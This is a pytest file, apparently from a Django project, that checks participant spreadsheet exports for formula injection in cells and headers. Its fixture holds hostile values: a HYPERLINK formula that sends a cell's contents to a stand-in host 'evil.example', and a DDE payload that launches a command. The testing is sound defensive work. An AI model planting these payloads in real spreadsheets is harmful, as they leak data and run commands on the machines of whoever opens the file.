"""Exports never hand a spreadsheet a formula: not in a cell and not in a column header.

Free attribute names come from files people upload, so a header such as
`=HYPERLINK(...)` is attacker-controlled text just like a cell.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from kring.core.spreadsheets import FORMULA_STARTS
from kring.programmes.models import Registration

EVIL_HEADER = '=HYPERLINK("http://evil.example/?leak="&A2,"klik")'
EVIL_ATTRIBUTES = {
    EVIL_HEADER: "@SUM(1+1)*cmd|' /C calc'!A0",
    "+team": "-2+3",
    "\tdienst": "\rnacht",
}


@pytest.fixture
def export(world, login):
    world.people["participant"].full_name = "=1+1"
    world.people["participant"].save()
    Registration.objects.create(
        programme=world.programme,
        user=world.people["participant"],
        department="+31 wijkzorg",
        extra_attributes=EVIL_ATTRIBUTES,
    )
    coordinator = login(world.people["coordinator"])

    def _export(file_format):
        response = coordinator.get(
            reverse(
                "programmes:export_participants",
                kwargs={"programme_id": world.programme.pk, "file_format": file_format},
            )
        )
        assert response.status_code == 200
        return response.content

    return _export


def test_no_cell_or_header_of_the_excel_export_is_a_formula(export):
    sheet = openpyxl.load_workbook(io.BytesIO(export("xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    headers = [cell.value for cell in next(sheet.iter_rows())]
    assert "'" + EVIL_HEADER in headers
    assert len(cells) > len(headers)  # the participant's row is there too
    for cell in cells:
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        assert not str(cell.value or "").startswith(FORMULA_STARTS), cell.coordinate


def test_no_cell_or_header_of_the_csv_export_starts_like_a_formula(export):
    text = export("csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert "'" + EVIL_HEADER in rows[0]
    assert len(rows) == 2
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), value
